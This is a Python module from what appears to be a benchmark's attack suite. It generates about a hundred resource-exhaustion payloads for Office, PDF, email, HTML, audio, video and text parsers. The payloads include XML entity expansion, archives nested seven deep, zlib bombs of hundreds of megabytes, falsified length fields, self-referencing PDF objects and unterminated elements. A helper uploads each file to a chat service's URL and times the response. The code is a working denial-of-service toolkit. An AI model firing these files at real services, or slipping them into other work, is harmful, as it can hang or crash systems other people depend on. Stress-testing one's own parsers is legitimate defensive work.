"""Attacks with documents, sounds and videos that are small and take long to read: nesting, repeats and open ends."""

import io
import random
import time
import zipfile
import zlib
from collections.abc import Callable, Mapping

from bench.attack.client import Client

SECONDS = 30.0
_SPACES = " ".join(f'xmlns:{name}="http://{name}"' for name in ("w", "r", "m", "a", "c", "mc"))
"""Readers compare tags without their namespaces."""
_RELATIONSHIPS = (
    "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>{}</Relationships>"
)


def relationships(*items: tuple[str, str, str]) -> str:
    """Return the relationships of a part: the id, the kind and the target of each."""
    made = (f'<Relationship Id="{id_}" Type="http://x/{kind}" Target="{part}"/>' for id_, kind, part in items)
    return _RELATIONSHIPS.format("".join(made))


def package(folder: str, main: str, parts: Mapping[str, str]) -> bytes:
    """Return an Office document with these parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("_rels/.rels", relationships(("1", "officeDocument", f"{folder}/{main}")))
        for name, text in parts.items():
            archive.writestr(f"{folder}/{name}", text)
    return out.getvalue()


def word(body: str, **parts: str) -> bytes:
    """Return a DOCX with this body and these related parts."""
    related = relationships(*((name, name.rstrip("0123456789"), f"{name}.xml") for name in parts))
    others = {f"{name}.xml": f"<w:x {_SPACES}>{text}</w:x>" for name, text in parts.items()}
    main = f"<w:document {_SPACES}><w:body>{body}</w:body></w:document>"
    return package("word", "document.xml", {"document.xml": main, "_rels/document.xml.rels": related, **others})


def sheet(rows: str, *, shared: str = "", styles: str = "", sheets: int = 1) -> bytes:
    """Return an XLSX whose sheets are all the same part."""
    tabs = '<sheet name="a" r:id="a"/>' * sheets
    related = (("a", "worksheet", "a.xml"), ("b", "sharedStrings", "b.xml"), ("c", "styles", "c.xml"))
    parts = {
        "workbook.xml": f"<workbook {_SPACES}><sheets>{tabs}</sheets></workbook>",
        "_rels/workbook.xml.rels": relationships(*related),
        "a.xml": f"<worksheet><sheetData>{rows}</sheetData></worksheet>",
        "b.xml": f"<sst>{shared}</sst>",
        "c.xml": f"<styleSheet>{styles}</styleSheet>",
    }
    return package("xl", "workbook.xml", parts)


def sheets(count: int) -> bytes:
    """Return an XLSX with sheets of their own."""
    tabs = "".join(f'<sheet name="{n}" r:id="r{n}"/>' for n in range(count))
    parts = {
        "workbook.xml": f"<workbook {_SPACES}><sheets>{tabs}</sheets></workbook>",
        "_rels/workbook.xml.rels": relationships(*((f"r{n}", "worksheet", f"{n}.xml") for n in range(count))),
        **{
            f"{n}.xml": "<worksheet><sheetData><row><c><v>1</v></c></row></sheetData></worksheet>" for n in range(count)
        },
    }
    return package("xl", "workbook.xml", parts)


def archives(depth: int) -> bytes:
    """Return a DOCX with ten archives in it, each with ten in it, and so on."""
    data = word(paragraph("a"))
    for _ in range(depth):
        out = io.BytesIO(word(paragraph("a")))
        with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
            for number in range(10):
                archive.writestr(f"word/embeddings/{number}.docx", data)
        data = out.getvalue()
    return data


def slides(shapes: str, *, count: int = 1, chart: str = "<x/>") -> bytes:
    """Return a PPTX whose slides are all the same part."""
    listed = '<sldId r:id="a"/>' * count
    parts = {
        "presentation.xml": f"<presentation {_SPACES}><sldIdLst>{listed}</sldIdLst></presentation>",
        "_rels/presentation.xml.rels": relationships(("a", "slide", "a.xml")),
        "a.xml": f"<sld {_SPACES}>{shapes}</sld>",
        "_rels/a.xml.rels": relationships(("b", "chart", "b.xml")),
        "b.xml": f"<x {_SPACES}>{chart}</x>",
    }
    return package("ppt", "presentation.xml", parts)


def deck(layout: str, *, count: int = 1, notes: str = "<x/>") -> bytes:
    """Return a PPTX with slides of their own that have the same layout and the same notes."""
    related = relationships(("l", "slideLayout", "l.xml"), ("n", "notesSlide", "n.xml"))
    parts = {
        "presentation.xml": f"<presentation {_SPACES}><sldIdLst>"
        + "".join(f'<sldId r:id="s{number}"/>' for number in range(count))
        + "</sldIdLst></presentation>",
        "_rels/presentation.xml.rels": relationships(*((f"s{n}", "slide", f"s{n}.xml") for n in range(count))),
        **{f"s{number}.xml": f"<sld {_SPACES}>{_TEXT}</sld>" for number in range(count)},
        **{f"_rels/s{number}.xml.rels": related for number in range(count)},
        "l.xml": f"<sldLayout {_SPACES}>{layout}</sldLayout>",
        "n.xml": f"<notes {_SPACES}>{notes}</notes>",
    }
    return package("ppt", "presentation.xml", parts)


def commented(comments: str) -> bytes:
    """Return an XLSX whose sheet has these comments."""
    parts = {
        "workbook.xml": f'<workbook {_SPACES}><sheets><sheet name="a" r:id="a"/></sheets></workbook>',
        "_rels/workbook.xml.rels": relationships(("a", "worksheet", "a.xml")),
        "a.xml": "<worksheet><sheetData><row><c><v>1</v></c></row></sheetData></worksheet>",
        "_rels/a.xml.rels": relationships(("c", "comments", "c.xml")),
        "c.xml": f"<comments>{comments}</comments>",
    }
    return package("xl", "workbook.xml", parts)


def pdf(content: bytes, *objects: bytes, resources: str = "/XObject<</F 5 0 R>>", pages: str = "") -> bytes:
    """Return a PDF of one page with this content. The further objects have the numbers from 5."""
    page = f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R/Resources<<{resources}>>>>"
    first = "<</Type/Catalog/Pages 2 0 R>>", pages or "<</Type/Pages/Count 1/Kids[3 0 R]>>", page
    out, places = bytearray(b"%PDF-1.7\n"), bytearray(b"0000000000 65535 f \n")
    for number, one in enumerate((*map(str.encode, first), stream(content), *objects), 1):
        places += b"%010d 00000 n \n" % len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, one)
    count = len(places) // 20
    end = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (count, len(out))
    return bytes(out + b"xref\n0 %d\n" % count + places + end)


def stream(content: bytes, header: str = "") -> bytes:
    """Return an object of a PDF with this content, packed."""
    packed = zlib.compress(content, 9)
    return b"<<%b/Filter/FlateDecode/Length %d>>stream\n%b\nendstream" % (header.encode(), len(packed), packed)


def form(content: bytes, drawn: int) -> bytes:
    """Return a form of a PDF, in which `/F Do` draws the object with this number."""
    of = f"/XObject<</F {drawn} 0 R>>"
    return stream(content, f"/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Resources<<{of}>>")


def nested(opening: str, inner: str, closing: str, times: int) -> str:
    """Return a text in many elements, one in the other."""
    return opening * times + inner + closing * times


def paragraph(text: str, properties: str = "") -> str:
    """Return a paragraph of Word."""
    return f"<w:p><w:pPr>{properties}</w:pPr><w:r><w:t>{text}</w:t></w:r></w:p>"


def _format(code: str) -> str:
    formats = f'<numFmts><numFmt numFmtId="200" formatCode="{code}"/></numFmts>'
    return f'{formats}<cellXfs><xf numFmtId="200"/></cellXfs>'


_LIST = '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>'
_LEVEL = '<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%1"/></w:lvl>'
_NUMBERING = (
    f'<w:abstractNum w:abstractNumId="0">{_LEVEL * 20_000}</w:abstractNum>'
    '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
)
_BASES = "".join(f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{n + 1}"/></w:style>' for n in range(4_000))
_BOX = "<w:drawing><w:txbxContent><w:p><w:r>"
_CHOICE = "<mc:AlternateContent><mc:Choice>"
_TEXT = "<a:txBody><a:p><a:t>a</a:t></a:p></a:txBody>"
_LIST_ITEM = '<a:p><a:pPr lvl="{}"><a:buAutoNum type="arabicPeriod"/></a:pPr><a:r><a:t>a</a:t></a:r></a:p>'
_MAIL = b"From: ann@example.org\r\nSubject: Lunch\r\n"

_RUN = "<w:p><w:r>{}</w:r></w:p>"
_FIELD = '<w:r><w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="separate"/></w:r>'
_CELL = '<c t="s"><v>0</v></c>'
_VALUE = '<pt idx="1">'
_POINT = '<lvl><pt idx="1"><v>aaaaaaaaaa</v></pt></lvl>'

BOMBS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "alternatives in alternatives": (
        "a.docx",
        lambda: word(_RUN.format(nested(_CHOICE, "<w:t>a</w:t>" * 200_000, "</mc:Choice></mc:AlternateContent>", 200))),
    ),
    "text boxes in text boxes": (
        "a.docx",
        lambda: word(_RUN.format(nested(_BOX, "<w:t>a</w:t>", "</w:r></w:p></w:txbxContent></w:drawing>", 25))),
    ),
    "paragraphs in paragraphs": (
        "a.docx",
        lambda: word(
            _RUN.format(
                f"<w:drawing><a:txBody>{nested('<a:p>', '<a:t>aaaaaaaa</a:t>' * 20_000, '</a:p>', 200)}"
                "</a:txBody></w:drawing>"
            )
        ),
    ),
    "styles based on styles": (
        "a.docx",
        lambda: word(paragraph("a", '<w:pStyle w:val="s0"/>') * 5_000, styles=_BASES),
    ),
    "levels of a list": ("a.docx", lambda: word(paragraph("a", _LIST) * 5_000, numbering=_NUMBERING)),
    "deleted ends of paragraphs": (
        "a.docx",
        lambda: word(paragraph("a" * 100, "<w:rPr><w:del/></w:rPr>") * 60_000),
    ),
    "open fields": (
        "a.docx",
        lambda: word("<w:p>" + _FIELD * 40_000 + "<w:r><w:t>a</w:t></w:r>" * 40_000 + "</w:p>"),
    ),
    "one chart in many drawings": (
        "a.docx",
        lambda: word(
            _RUN.format('<w:drawing><c:chart r:id="chart1"/></w:drawing>' * 3_000),
            chart1="<c:chart>" + "<c:x/>" * 200_000 + "</c:chart>",
        ),
    ),
    "one sheet under many names": (
        "a.xlsx",
        lambda: sheet('<row><c r="A1"><v>1</v></c></row>' * 5_000, sheets=30_000),
    ),
    "one long text in many cells": (
        "a.xlsx",
        lambda: sheet(f"<row>{_CELL * 200_000}</row>", shared=f"<si><t>{'a ' * 900_000}</t></si>"),
    ),
    "a long format of numbers": (
        "a.xlsx",
        lambda: sheet('<row><c s="0"><v>1</v></c></row>' * 20_000, styles=_format("[$a" * 300_000 + "d")),
    ),
    "one slide many times": ("a.pptx", lambda: slides("<sp/>" * 200_000 + _TEXT, count=2_000)),
    "one chart many times": (
        "a.pptx",
        lambda: slides('<chart r:id="b"/>' * 3_000 + _TEXT, chart=f"<chart>{'<x/>' * 200_000}</chart>"),
    ),
    "values of a chart at one place": (
        "a.pptx",
        lambda: slides(f'<chart r:id="b"/>{_TEXT}', chart=f"<ser><val>{_POINT * 150_000}</val></ser>"),
    ),
    "forms in forms": (
        "a.pdf",
        lambda: pdf(b"/F Do", *(form(b"/F Do " * 3, number + 6) for number in range(30)), form(b"q Q", 99)),
    ),
    "a form in itself": ("a.pdf", lambda: pdf(b"/F Do", form(b"/F Do /F Do", 5))),
    "a long stream": ("a.pdf", lambda: pdf(b"q 1 0 0 1 0 0 cm Q " * 20_000_000)),
    "texts without end": (
        "a.pdf",
        lambda: pdf(
            b"BT /F 1 Tf " + b"(aaaaaaaaaaaaaaaa) Tj 1 1 Td " * 500_000 + b"ET",
            resources="/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>",
        ),
    ),
    "pages in pages": (
        "a.pdf",
        lambda: pdf(
            b"",
            *(b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (number + 6) for number in range(100_000)),
            pages="<</Type/Pages/Count 1/Kids[5 0 R]>>",
        ),
    ),
    "comments in comments": (
        "a.xlsx",
        lambda: commented(nested("<comment>", "<text><t>a</t></text>" * 100_000, "</comment>", 200)),
    ),
    "texts in one run": (
        "a.xlsx",
        lambda: sheet(f"<row><c t='inlineStr'><is><r>{'<t>a</t>' * 200_000}</r></is></c></row>"),
    ),
    "trees of shapes in trees": ("a.pptx", lambda: deck(nested("<spTree>", "<sp/>" * 500_000, "</spTree>", 200))),
    "one note on many slides": ("a.pptx", lambda: deck("", count=1_900, notes="<sp/>" * 15_000 + _TEXT)),
    "levels of a list in a slide": (
        "a.pptx",
        lambda: slides(
            f"<a:txBody>{''.join(_LIST_ITEM.format(chr(0x4E00 + n % 20_000)) for n in range(40_000))}</a:txBody>"
        ),
    ),
    "titles in titles": (
        "a.pptx",
        lambda: slides(
            f'<chart r:id="b"/>{_TEXT}',
            chart=f"<chart>{nested('<title>', '<a:p/>' * 200_000, '</title>', 200)}</chart>",
        ),
    ),
    "points in points": (
        "a.pptx",
        lambda: slides(
            f'<chart r:id="b"/>{_TEXT}',
            chart=f"<ser><val>{nested(_VALUE, '<v/>' * 200_000, '</pt>', 200)}</val></ser>",
        ),
    ),
    "links on a page": (
        "a.pdf",
        lambda: pdf(
            b"BT /F 9 Tf " + b"(aaaa) Tj " * 50_000 + b"ET",
            b"[" + b"6 0 R " * 60_000 + b"]",
            b"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/URI/URI(http://example.org/)>>>>",
            resources="/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>",
        ).replace(b"/MediaBox", b"/Annots 5 0 R/MediaBox", 1),
    ),
    "deep elements": ("a.docx", lambda: word(nested("<w:sdt>", "<w:p/>", "</w:sdt>", 1_000_000))),
    "deep shapes": ("a.pptx", lambda: slides(nested("<grpSp>", _TEXT, "</grpSp>", 500_000))),
    "deep rows": ("a.xlsx", lambda: sheet(nested("<row>", "<c/>", "</row>", 500_000))),
    "runs": ("a.docx", lambda: word("<w:p>" + "<w:r/>" * 7_000_000 + "</w:p>")),
    "runs with text": ("a.docx", lambda: word("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 1_500_000 + "</w:p>")),
    "equations": (
        "a.docx",
        lambda: word(
            f"<w:p><w:oMath>{nested('<w:sSup><w:e/><w:sup>', '<w:t>a</w:t>', '</w:sup></w:sSup>', 60) * 2_000}"
            f"<w:m>{'<w:mr><w:e/></w:mr>' * 200_000}</w:m></w:oMath></w:p>"
        ),
    ),
    "headers": (
        "a.docx",
        lambda: word(
            paragraph("a") + "<w:sectPr><w:headerReference r:id='header1'/></w:sectPr>" * 300_000,
            header1=paragraph("a") * 50_000,
        ),
    ),
    "entities": (
        "a.docx",
        lambda: package(
            "word", "document.xml", {"document.xml": '<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><x>&b;</x>'}
        ),
    ),
    "sheets": ("a.xlsx", lambda: sheets(20_000)),
    "columns": ("a.xlsx", lambda: sheet(f"<row>{'<c><v>1</v></c>' * 2_000_000}</row>")),
    "rows": ("a.xlsx", lambda: sheet("<row/>" * 6_000_000)),
    "archives in archives": ("a.docx", lambda: archives(7)),
    "series of a chart": (
        "a.pptx",
        lambda: slides(
            f'<chart r:id="b"/>{_TEXT}',
            chart="".join(f"<ser><xVal><pt idx='{n % 7}'><v>{n}</v></pt></xVal></ser>" for n in range(100_000)),
        ),
    ),
    "a table of objects that names itself": (
        "a.pdf",
        lambda: b"%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer<</Size 9/Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF",
    ),
    "arrays in arrays": ("a.pdf", lambda: pdf(b"", b"[" * 1_000_000 + b"]" * 1_000_000)),
    "a large picture": (
        "a.pdf",
        lambda: pdf(
            b"/F Do",
            stream(b"", "/Type/XObject/Subtype/Image/Width 90000/Height 90000/ColorSpace/DeviceRGB/BitsPerComponent 8"),
        ),
    ),
    "pages that a document claims": (
        "a.pdf",
        lambda: pdf(b"", pages=f"<</Type/Pages/Count 100000000/Kids[{'3 0 R ' * 2_000}]>>"),
    ),
    "notes on a page": (
        "a.pdf",
        lambda: pdf(
            b"", b"[" + b"<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents(aaaaaaaa)>>" * 100_000 + b"]"
        ).replace(b"/MediaBox", b"/Annots 5 0 R/MediaBox", 1),
    ),
    "groups of RTF": ("a.eml", lambda: _MAIL + b"Content-Type: text/rtf\r\n\r\n" + b"{\\rtf1 " * 500_000),
    "a far cell": ("a.xlsx", lambda: sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
    "tables in tables": ("a.html", lambda: b"<table><tr><td>" * 100_000),
    "mails in mails": ("a.eml", lambda: _MAIL + b"Content-Type: message/rfc822\r\n\r\nSubject: a\r\n" * 5_000),
    "parts of a mail": (
        "a.eml",
        lambda: _MAIL + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\nHello\r\n" * 10_000,
    ),
    "open declarations": ("a.html", lambda: b"<!" * 1_000_000),
    "open comments": ("a.html", lambda: b"<!-- >" * 500_000),
    "open tags": ("a.html", lambda: b"<a " * 1_000_000),
    "open ends of tags": ("a.html", lambda: b"</" * 1_000_000),
    "open instructions": ("a.html", lambda: b"<?" * 1_000_000),
    "open sections": ("a.html", lambda: b"<![CDATA[ >" * 300_000),
    "open texts of a form": ("a.html", lambda: b"<textarea>" + b"</textare" * 300_000),
    "open comments in a mail": ("a.eml", lambda: _MAIL + b"Content-Type: text/html\r\n\r\n" + b"<!-- >" * 500_000),
}
"""The name of the file and its bytes, by what takes long."""


def _box(kind: bytes, body: bytes) -> bytes:
    return (8 + len(body)).to_bytes(4, "big") + kind + body


def _element(id_: bytes, body: bytes) -> bytes:
    return id_ + b"\x01" + len(body).to_bytes(7, "big") + body


def _webm(body: bytes) -> bytes:
    """Return a WebM whose only segment claims no length."""
    return _element(b"\x1a\x45\xdf\xa3", _element(b"\x42\x82", b"webm")) + b"\x18\x53\x80\x67\x01" + b"\xff" * 7 + body


def _numbers(*numbers: int) -> bytes:
    return b"".join(number.to_bytes(4, "big") for number in numbers)


def _m4a(samples: int = 1, times: bytes = b"", edits: bytes = b"") -> bytes:
    """Return an M4A with one track of AAC that claims so many samples of one byte."""
    entry = _box(b"mp4a", bytes(6) + b"\0\1" + bytes(8) + b"\0\2\0\x10" + bytes(4) + (48_000 << 16).to_bytes(4, "big"))
    table = (
        _box(b"stsd", _numbers(0, 1) + entry)
        + _box(b"stts", times or _numbers(0, 1, samples, 1024))
        + _box(b"stsc", _numbers(0, 1, 1, samples, 1))
        + _box(b"stsz", _numbers(0, 1, samples))
        + _box(b"stco", _numbers(0, 1, 0))
    )
    media = (
        _box(b"mdhd", _numbers(0, 0, 0, 48_000, 1024, 0))
        + _box(b"hdlr", _numbers(0, 0) + b"soun" + bytes(13))
        + _box(b"minf", _box(b"stbl", table))
    )
    track = _box(b"tkhd", _numbers(1, 0, 0, 1) + bytes(68)) + _box(b"edts", _box(b"elst", edits or _numbers(0, 0)))
    head = _box(b"mvhd", _numbers(0, 0, 0, 48_000, 1024) + bytes(80))
    return _TYPE + _box(b"moov", head + _box(b"trak", track + _box(b"mdia", media))) + _box(b"mdat", bytes(64))


def _flac(rate: int, *blocks: bytes) -> bytes:
    """Return the head of a FLAC that claims 2^36 - 1 samples, with further blocks of metadata."""
    bits = (rate << 44 | 1 << 41 | 15 << 36 | (1 << 36) - 1).to_bytes(8, "big")
    return b"fLaC" + b"\0\0\0\x22" + b"\x10\0\x10\0" + bytes(6) + bits + bytes(16) + b"".join(blocks)


_WAV = b"RIFF\xff\xff\xff\x7fWAVEfmt \x10\0\0\0\1\0\1\0\x80>\0\0\0}\0\0\2\0\x10\0"
_TYPE = _box(b"ftyp", b"M4A \0\0\0\0isom")
_CUE = _element(b"\xb3", b"\1") + _element(b"\xb7", _element(b"\xf7", b"\1") + _element(b"\xf1", b"\xff" * 8))
_TRACK = _element(b"\xae", _element(b"\xd7", b"\1") + _element(b"\x83", b"\2") + _element(b"\x86", b"A_OPUS"))

SOUNDS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a length that is false": ("a.wav", lambda: _WAV + b"data\xff\xff\xff\x7f" + bytes(32_000)),
    "chunks": ("a.wav", lambda: _WAV + b"junk\0\0\0\0" * 800_000 + b"data\0\1\0\0" + bytes(256)),
    "a chunk without end": ("a.wav", lambda: _WAV[:12] + b"LIST\xff\xff\xff\xff" + _WAV[12:] + bytes(32_000)),
    "boxes in boxes": (
        "a.m4a",
        lambda: _TYPE + b"".join((8 * (200_000 - n)).to_bytes(4, "big") + b"moov" for n in range(200_000)),
    ),
    "tracks of a box": ("a.m4a", lambda: _TYPE + _box(b"moov", _box(b"trak", _box(b"mdia", b"")) * 200_000)),
    "small boxes": ("a.m4a", lambda: _TYPE + _box(b"moov", _box(b"udta", _box(b"free", b"") * 800_000))),
    "tracks": ("a.webm", lambda: _webm(_element(b"\x16\x54\xae\x6b", _TRACK * 100_000))),
    "clusters without end": ("a.webm", lambda: _webm(b"\x1f\x43\xb6\x75\x01\xff\xff\xff\xff\xff\xff\xff" * 300_000)),
    "pages of streams": (
        "a.ogg",
        lambda: b"".join(b"OggS\0\2" + bytes(8) + n.to_bytes(4, "big") + bytes(9) for n in range(200_000)),
    ),
    "pages that end later": ("a.ogg", lambda: (b"OggS" + bytes(22) + b"\xff" * 256) * 30_000),
    "a thousand million samples": ("a.m4a", lambda: _m4a(1_000_000_000)),
    "times of samples": ("a.m4a", lambda: _m4a(2_000_000, _numbers(0, 500_000) + _numbers(1_000_000_000, 1) * 500_000)),
    "edits": ("a.m4a", lambda: _m4a(1_000_000, edits=_numbers(0, 500_000) + _numbers(1, 0, 65_536) * 500_000)),
    "a far end": ("a.flac", lambda: _flac(655_350) + bytes(1_000_000)),
    "blocks of metadata": ("a.flac", lambda: _flac(48_000, *[b"\4\0\0\x10" + bytes(16)] * 300_000)),
    "a tag without end": ("a.mp3", lambda: b"ID3\4\0\0\x7f\x7f\x7f\x7f" + b"TXXX\0\0\0\1\0\0a" * 500_000),
    "tags after tags": ("a.mp3", lambda: b"ID3\4\0\0\0\0\0\0" * 600_000),
    "frames of silence": ("a.mp3", lambda: (b"\xff\xfb\x10\xc4" + bytes(100)) * 60_000),
    "starts of frames": ("a.aac", lambda: b"\xff\xf1\x50\x80\x01\x1f\xfc" * 800_000),
    "elements in elements": (
        "a.webm",
        lambda: _webm(b"\x12\x54\xc3\x67\x01" + b"\xff" * 7 + (b"\x67\xc8\x01" + b"\xff" * 7) * 300_000),
    ),
    "places to seek": ("a.webm", lambda: _webm(_element(b"\x1c\x53\xbb\x6b", _element(b"\xbb", _CUE) * 100_000))),
    "chunks of a form": ("a.aiff", lambda: b"FORM\x7f\xff\xff\xffAIFF" + b"COMT\0\0\0\0" * 700_000),
}
"""Sounds of other lengths, or in more boxes, than they need."""


def _film(*boxes: bytes, brand: bytes = b"isom", table: bytes = b"", head: bytes = b"") -> bytes:
    """Return a video whose only track has these tables of samples, with further boxes before and after its head."""
    entry = _box(b"avc1", bytes(6) + b"\0\1" + bytes(16) + b"\xff\xff\xff\xff" + bytes(50))
    media = (
        _box(b"mdhd", _numbers(0, 0, 0, 90_000, 1024, 0))
        + _box(b"hdlr", _numbers(0, 0) + b"vide" + bytes(13))
        + _box(b"minf", _box(b"stbl", _box(b"stsd", _numbers(0, 1) + entry) + table))
    )
    track = _box(b"trak", _box(b"tkhd", _numbers(1, 0, 0, 1) + bytes(68)) + _box(b"mdia", media))
    movie = _box(b"moov", head + _box(b"mvhd", _numbers(0, 0, 0, 90_000, 1024) + bytes(80)) + track)
    return _box(b"ftyp", brand + _numbers(0) + brand) + movie + b"".join(boxes)


def _boxes_in_boxes(kind: bytes, count: int) -> bytes:
    return b"".join((8 * (count - n)).to_bytes(4, "big") + kind for n in range(count))


def _avi(*lists: bytes) -> bytes:
    body = b"AVI " + b"".join(lists)
    return b"RIFF" + len(body).to_bytes(4, "little") + body


def _chunk(kind: bytes, body: bytes) -> bytes:
    return kind + len(body).to_bytes(4, "little") + body


_FRAGMENT = _box(
    b"moof",
    _box(b"mfhd", _numbers(0, 1))
    + _box(b"traf", _box(b"tfhd", _numbers(0, 1)) + _box(b"trun", _numbers(0, 1_000_000_000))),
)
_VIDEO_TRACK = _element(b"\xae", _element(b"\xd7", b"\1") + _element(b"\x83", b"\1") + _element(b"\x86", b"V_VP9"))
_ENCODED_TRACK = _element(
    b"\xae",
    _element(b"\xd7", b"\1")
    + _element(b"\x83", b"\2")
    + _element(b"\x86", b"A_OPUS")
    + _element(b"\x6d\x80", _element(b"\x62\x40", _element(b"\x50\x34", _element(b"\x42\x54", b"\0"))))
    + _element(b"\x63\xa2", zlib.compress(bytes(200_000_000), 9)),
)
"""A track whose private data are packed, and are 200 MB."""
_STREAM_OF_AVI = _chunk(b"LIST", b"strl" + _chunk(b"strh", b"vidsH264" + bytes(48)) + _chunk(b"strf", bytes(40)))

VIDEOS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a box of 2^63 bytes": ("a.mp4", lambda: _film(_numbers(1) + b"mdat\x7f" + b"\xff" * 7 + bytes(1000))),
    "boxes without end": ("a.mp4", lambda: _film(*[_numbers(0) + b"moov"] * 300_000)),
    "boxes that end before they begin": ("a.mp4", lambda: _film(*[_numbers(1) + b"free" + bytes(8)] * 200_000)),
    "boxes in boxes": ("a.mp4", lambda: _film(head=_boxes_in_boxes(b"udta", 200_000))),
    "tracks in tracks": ("a.mov", lambda: _film(brand=b"qt  ", head=_boxes_in_boxes(b"trak", 100_000))),
    "a packed head": (
        "a.mov",
        lambda: (
            _box(b"ftyp", b"qt  " + _numbers(0) + b"qt  ")
            + _box(
                b"moov",
                _box(
                    b"cmov",
                    _box(b"dcom", b"zlib")
                    + _box(b"cmvd", _numbers(1_500_000_000) + zlib.compress(bytes(500_000_000), 9)),
                ),
            )
        ),
    ),
    "a table of samples that it does not have": (
        "a.mp4",
        lambda: _film(table=_box(b"stsz", _numbers(0, 0, 0xFFFFFFFF)) + _box(b"stss", _numbers(0, 0xFFFFFFFF))),
    ),
    "offsets of samples": (
        "a.mp4",
        lambda: _film(
            table=_box(b"stts", _numbers(0, 1, 0x7FFFFFFF, 1))
            + _box(b"ctts", _numbers(0, 500_000) + _numbers(0x7FFFFFFF, 1) * 500_000)
            + _box(b"stsz", _numbers(0, 1, 0x7FFFFFFF))
        ),
    ),
    "fragments": ("a.mp4", lambda: _film(*[_FRAGMENT] * 60_000)),
    "an index of fragments": (
        "a.mp4",
        lambda: _film(_box(b"sidx", _numbers(0, 1, 90_000, 0, 0, 65_535) + _numbers(8, 1, 0) * 65_535) * 5),
    ),
    "tracks of video": ("a.webm", lambda: _webm(_element(b"\x16\x54\xae\x6b", _VIDEO_TRACK * 100_000))),
    "packed data of tracks": ("a.mkv", lambda: _webm(_element(b"\x16\x54\xae\x6b", _ENCODED_TRACK * 8))),
    "a block that claims all": (
        "a.mkv",
        lambda: _webm(
            _element(b"\x16\x54\xae\x6b", _VIDEO_TRACK)
            + (b"\x1f\x43\xb6\x75\x01" + b"\xff" * 7 + b"\xa3\x01\0\0\0\xff\xff\xff\xff\x81\0\0\x86") * 100_000
        ),
    ),
    "files in a film": (
        "a.mkv",
        lambda: _webm(_element(b"\x19\x41\xa4\x69", _element(b"\x61\xa7", _element(b"\x46\x6e", b"a.ttf")) * 150_000)),
    ),
    "streams of a film": ("a.avi", lambda: _avi(_chunk(b"LIST", b"hdrl" + _STREAM_OF_AVI * 40_000))),
    "lists in lists": (
        "a.avi",
        lambda: _avi(b"".join(b"LIST" + (12 * (300_000 - n)).to_bytes(4, "little") + b"movi" for n in range(300_000))),
    ),
    "an index without a film": (
        "a.avi",
        lambda: _avi(_chunk(b"idx1", b"00dc\x10\0\0\0\xff\xff\xff\x7f\xff\xff\xff\x7f" * 400_000)),
    ),
    "a film that is called a sound": (
        "a.m4a",
        lambda: _film(table=_box(b"stsz", _numbers(0, 1, 0x7FFFFFFF)), brand=b"M4A "),
    ),
}
"""Films, of which a page takes only the sound, with other lengths or in more boxes than they need."""


TEXTS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "words": ("a.txt", lambda: "".join(map(chr, random.choices(range(0x4E00, 0x9FFF), k=1_900_000))).encode()),
    "one line": ("a.csv", lambda: b"a," * 950_000),
    "controls": ("a.txt", lambda: b"\x01" * 20_000_000),
    "wide letters and controls": ("a.txt", lambda: "中\x01".encode("utf-16-le") * 4_900_000),
}
"""Long texts, of which a model gets passages."""


def _attack(name: str, make: Callable[[], bytes]) -> Callable[[str], object]:
    def attack(url: str) -> object:
        """Attach the document. Return the refusal, if any, and the seconds until the end."""
        with Client(url) as client:
            path = client.upload(name, make())
            began = time.monotonic()
            reply = client.chat("!text Read.", path, seconds=SECONDS)
            return reply.error[:100], round(time.monotonic() - began, 1)

    return attack


ATTACKS: dict[str, Callable[[str], object]] = {
    **{f"document: {name}": _attack(file, make) for name, (file, make) in BOMBS.items()},
    **{f"sound: {name}": _attack(file, make) for name, (file, make) in SOUNDS.items()},
    **{f"video: {name}": _attack(file, make) for name, (file, make) in VIDEOS.items()},
    **{f"text: {name}": _attack(file, make) for name, (file, make) in TEXTS.items()},
}
